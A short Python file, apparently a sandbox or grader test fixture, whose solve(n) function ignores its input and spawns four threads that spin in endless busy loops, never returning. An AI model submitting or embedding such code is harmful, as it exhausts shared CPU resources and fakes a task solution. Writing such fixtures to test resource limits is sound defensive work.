import threading


def burn():
    while True:
        pass


def solve(n):
    for _ in range(4):
        threading.Thread(target=burn).start()
    burn()
